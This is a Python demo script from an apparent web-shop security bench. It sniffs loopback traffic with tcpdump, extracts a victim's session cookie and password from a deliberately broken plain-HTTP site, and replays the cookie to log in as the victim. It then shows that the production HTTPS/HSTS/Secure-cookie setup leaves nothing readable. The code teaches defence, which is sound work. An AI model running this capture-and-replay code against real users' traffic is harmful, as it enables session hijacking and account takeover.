"""Session hijacking: a session cookie read off the wire and replayed (make demo-hijack)."""

import re
import signal
import socket
import struct
import subprocess
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Self

import requests

from deploy.stack import BASE_DIR, StackError, find_or_apt_install, free_port

from .common import PASSWORD, Browser, Finding, start_stack, title, unique

PLAIN_HTTP_SITE = Path(__file__).resolve().parent / "broken" / "plain_http_site.conf.template"
COOKIE_HEADER = re.compile(rb"\r\nCookie: ([^\r\n]*)", re.IGNORECASE)
REQUEST_LINE = re.compile(rb"^(?:GET|POST|HEAD|PUT|DELETE|OPTIONS|PATCH) \S+ HTTP/1\.[01]")


def run() -> Finding:
    title("Session hijacking: a session cookie read off the wire, and replayed")
    tcpdump_binary()  # before any stack starts: installed now, or the reason why not
    broken = over_plain_http()
    shop = on_the_shop()
    print(
        "\nOver plain HTTP the session cookie crosses the network in every request, readable by anyone\n"
        "on the way; replayed, it is the victim's login (and the login form's password crossed the\n"
        "same way). The shop: plain HTTP only redirects (301) to HTTPS, and the HTTPS answer carries\n"
        "HSTS, so a browser goes straight to HTTPS from then on; the session cookie is __Host- and\n"
        "Secure, so a browser never sends it over http://, not even to the redirect; and over HTTPS\n"
        "the wire carries TLS records, nothing readable to replay.\n"
    )
    return Finding(
        story="Session hijacking (plain HTTP)",
        what_broke=f"cookie captured off the wire, replayed: {broken}",
        what_the_shop_does="HTTPS only, a Secure __Host- cookie, HSTS",
        measured=shop,
    )


def over_plain_http() -> str:
    """The victim logs in over plain HTTP; what the wire showed, replayed: the attacker's outcome."""
    print("\nA broken site (demo-only, bench/demos/broken/): the shop over plain HTTP, cookies not Secure")
    stack = start_stack(
        "hijack-broken",
        "redis",
        workers=2,
        extra_env={"DJANGO_SETTINGS_MODULE": "bench.demos.broken.plain_http_settings"},
    )
    try:
        port = free_port()
        stack.add_site("plain-http", PLAIN_HTTP_SITE, {"PLAIN_HTTP_PORT": str(port)}, port=port)
        site = Front(f"http://localhost:{port}", stack.tls_cert)
        victim_name = unique("victim-http")
        Browser(site).register(victim_name)  # the victim's account, made beforehand
        victim = Browser(site)

        print(f"  1. an eavesdropper captures port {port} (tcpdump on the loopback interface)")
        with Capture(port, stack.state_dir, "plain-http") as capture:
            login = victim.post_form("/accounts/login/", {"username": victim_name, "password": PASSWORD})
            profile = victim.get("/accounts/profile/")
            print(
                f"  2. the victim logs in at {site.url}/accounts/login/ ({login.status_code})\n"
                f"     and opens their profile ({profile.status_code})"
            )
            captured = capture.captured()
        print(f"  => captured: {captured.summary()}")
        print(f"     (saved: `tcpdump -A -r {capture.pcap.relative_to(BASE_DIR)}` shows it, or Wireshark)")
        print(f"     requests in clear: {', '.join(captured.requests_in_clear)}")
        password_seen = any(f"password={PASSWORD}".encode() in packet.payload for packet in captured.packets)
        print(f"     the login form's password in clear: {password_seen}")
        cookie = next(
            (header for line, header in captured.cookie_headers if b"/accounts/profile/" in line), None
        )
        print(
            f"  => Cookie header of the victim's logged-in request: {shorten(cookie) if cookie else 'none'}"
        )
        if cookie is None:
            return "no cookie found"

        # The attacker's own client, with nothing of the victim's but the header read off the wire.
        attacker = requests.Session()
        attacker.trust_env = False  # straight to loopback, as the browsers go, never through a proxy
        replay = attacker.get(
            f"{site.url}/accounts/profile/", headers={"Cookie": cookie}, allow_redirects=False, timeout=10
        )
        as_victim = replay.status_code == 200 and victim_name in replay.text
        outcome = f"{replay.status_code}, " + (
            "logged in as the victim" if as_victim else "not the victim's page"
        )
        print("  3. the attacker replays it from a client of their own: GET /accounts/profile/")
        print(f"  => replayed: {outcome}" + (f" (the page names {victim_name})" if as_victim else ""))
        return outcome
    finally:
        stack.stop()


def on_the_shop() -> str:
    """The victim, logged in over HTTPS, types the shop's http:// address; what both ports' captures hold."""
    print("\nThe shop: production settings, HTTPS only")
    stack = start_stack(
        "hijack-shop", "redis", workers=2, extra_env={"DJANGO_SETTINGS_MODULE": "shop.settings.production"}
    )
    try:
        victim_name = unique("victim-https")
        Browser(stack).register(victim_name)  # the victim's account, made beforehand
        victim = Browser(stack)
        print(
            f"  1. an eavesdropper captures the shop's plain HTTP port ({stack.http_port}) "
            f"and its HTTPS port ({stack.https_port})"
        )
        with (
            Capture(stack.http_port, stack.state_dir, "shop-http") as plain,
            Capture(stack.https_port, stack.state_dir, "shop-https") as tls,
        ):
            victim.post_form("/accounts/login/", {"username": victim_name, "password": PASSWORD})
            print(f"  2. the victim logs in over HTTPS: logged in {victim.logged_in()}")
            print(f"     holding {cookie_names(victim)}")
            typed = f"http://localhost:{stack.http_port}/accounts/profile/"
            redirect = victim.http.get(typed, allow_redirects=False, timeout=10)
            print(f"  3. the victim types {typed}")
            print(f"     plain HTTP answers: {redirect.status_code} to {redirect.headers.get('Location')}")
            # What the client really sent: requests, as browsers do, keeps Secure cookies off http://.
            print(f"     cookies sent over plain HTTP: {redirect.request.headers.get('Cookie') or 'none'}")
            page = victim.http.get(redirect.headers["Location"], allow_redirects=False, timeout=10)
            hsts = page.headers.get("Strict-Transport-Security")
            print(f"     then over HTTPS: {page.status_code}, Strict-Transport-Security: {hsts}")
            captured_plain = plain.captured()
            captured_tls = tls.captured()
        found = len(captured_plain.cookie_headers)
        print(f"  => plain HTTP port: captured {captured_plain.summary()}")
        print(f"     requests in clear: {', '.join(captured_plain.requests_in_clear) or 'none'}")
        print(f"     Cookie headers found: {found}" + (", nothing to replay" if found == 0 else ""))
        readable = len(captured_tls.cookie_headers)
        print(f"  => HTTPS port: captured {captured_tls.summary()} (TLS records)")
        in_clear = len(captured_tls.requests_in_clear)
        print(f"     requests in clear: {in_clear}; Cookie headers readable: {readable}")
        return f"plain HTTP: {found} cookies captured; HTTPS: {readable} readable"
    finally:
        stack.stop()


def cookie_names(browser: Browser) -> str:
    return ", ".join(
        f"{cookie.name} ({'Secure' if cookie.secure else 'not Secure'})" for cookie in browser.http.cookies
    )


def shorten(header: str) -> str:
    """A captured header, its values cut short (a terminal line, not a credential to copy)."""
    return re.sub(r"=([^;]{8})[^;]*", r"=\1...", header)


@dataclass(frozen=True)
class Front:
    """Where a browser is pointed: an address of the stack's nginx, and the stack's certificate."""

    url: str
    tls_cert: Path


@dataclass(frozen=True)
class Packet:
    ports: tuple[int, int]  # source, destination
    wire_bytes: int
    payload: bytes  # what TCP carried


@dataclass(frozen=True)
class Captured:
    port: int
    packets: list[Packet]

    @property
    def wire_bytes(self) -> int:
        return sum(packet.wire_bytes for packet in self.packets)

    @property
    def cookie_headers(self) -> list[tuple[bytes, str]]:
        """(request line, Cookie header) of every request that carried one."""
        return [
            (packet.payload.split(b"\r\n", 1)[0], match.group(1).decode(errors="replace"))
            for packet in self.packets
            for match in COOKIE_HEADER.finditer(packet.payload)
        ]

    @property
    def requests_in_clear(self) -> list[str]:
        """The request lines readable in the capture (none over TLS)."""
        return [
            match.group(0).decode()
            for packet in self.packets
            if (match := REQUEST_LINE.match(packet.payload))
        ]

    def summary(self) -> str:
        return f"{len(self.packets)} packets, {self.wire_bytes} bytes"


class Capture:
    """
    tcpdump on the loopback interface, filtered to one port: what anyone who
    can read the network between the browser and nginx sees (a shared Wi-Fi,
    a router on the way). Started as a context; captured() stops it.
    """

    def __init__(self, port: int, folder: Path, name: str):
        self.port = port
        self.pcap = folder / f"capture-{name}.pcap"
        self.log = folder / "logs" / f"tcpdump-{name}.log"

    def __enter__(self) -> Self:
        binary = tcpdump_binary()
        with open(self.pcap, "wb") as pcap, open(self.log, "wb") as log:
            # Written to our own file (-w -): tcpdump run as root drops to
            # another user, who may not write under var/demo/. -U and
            # immediate mode: each packet in the file as it is seen.
            this_port = f"tcp port {self.port}"
            self.process = subprocess.Popen(
                [binary, "-i", "lo", "-n", "-U", "--immediate-mode", "-s", "0", "-w", "-", this_port],
                stdout=pcap, stderr=log,
            )  # fmt: skip
        # Only once tcpdump says it listens does it see every packet.
        deadline = time.monotonic() + 15
        while b"listening on" not in self.log.read_bytes():
            if self.process.poll() is not None or time.monotonic() > deadline:
                self._stop()
                raise StackError(capture_failed(self.log.read_text(errors="replace").strip()))
            time.sleep(0.05)
        return self

    def __exit__(self, *exc_info) -> None:
        self._stop()

    def captured(self) -> Captured:
        """Stop, once every packet sent so far is in the file; the packets but for that check's own."""
        # A marker of our own, sent last on the same port: once tcpdump has
        # written it, it has written everything before it.
        marker = f"end-of-capture-{uuid.uuid4().hex}".encode()
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as connection:
            marker_port = connection.getsockname()[1]
            connection.sendall(marker + b"\r\n\r\n")
            deadline = time.monotonic() + 15
            while marker not in self.pcap.read_bytes():
                if time.monotonic() > deadline:
                    raise StackError(f"tcpdump did not write what was sent to port {self.port} within 15 s")
                time.sleep(0.05)
        self._stop()
        packets = read_pcap(self.pcap.read_bytes())
        return Captured(self.port, [packet for packet in packets if marker_port not in packet.ports])

    def _stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            try:
                self.process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()


def tcpdump_binary() -> str:
    """tcpdump, installed with apt-get when it is missing and we may (as make run installs nginx)."""
    found = find_or_apt_install("tcpdump")
    if found:
        return found
    raise StackError(
        "tcpdump was not found, and could not be installed (that needs root and apt-get). "
        "Install it: `sudo apt-get install tcpdump` (Debian/Ubuntu) or `brew install tcpdump` (macOS)."
    )


def capture_failed(tcpdump_says: str) -> str:
    if "permission" in tcpdump_says.lower() or "not permitted" in tcpdump_says.lower():
        return (
            f"tcpdump may not capture on the loopback interface ({tcpdump_says}). Capturing needs root or "
            "CAP_NET_RAW: run `sudo make demo-hijack`, or once "
            "`sudo setcap cap_net_raw,cap_net_admin=eip $(command -v tcpdump)`."
        )
    return f"tcpdump did not start capturing on the loopback interface: {tcpdump_says or 'it said nothing'}"


def read_pcap(data: bytes) -> list[Packet]:
    """The TCP packets of a pcap file of the loopback interface (Ethernet frames, IPv4 or IPv6)."""
    endian = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    link_type = struct.unpack(endian + "I", data[20:24])[0]
    # Where the IP packet starts, and where the frame names its protocol:
    # Ethernet (what Linux's lo gives), or Linux's "cooked" capture.
    ip_start, protocol_at = {1: (14, 12), 113: (16, 14)}[link_type]
    packets, offset = [], 24
    while offset + 16 <= len(data):
        _seconds, _fraction, kept, wire_bytes = struct.unpack(endian + "IIII", data[offset : offset + 16])
        frame = data[offset + 16 : offset + 16 + kept]
        offset += 16 + kept
        protocol = frame[protocol_at : protocol_at + 2]
        if protocol == b"\x08\x00":  # IPv4: its header's length in its first byte
            tcp = frame[ip_start + (frame[ip_start] & 0x0F) * 4 :]
        elif protocol == b"\x86\xdd":  # IPv6: a fixed 40 bytes (the filter let only TCP through)
            tcp = frame[ip_start + 40 :]
        else:
            continue
        source, destination = struct.unpack(">HH", tcp[:4])
        packets.append(Packet((source, destination), wire_bytes, tcp[(tcp[12] >> 4) * 4 :]))
    return packets
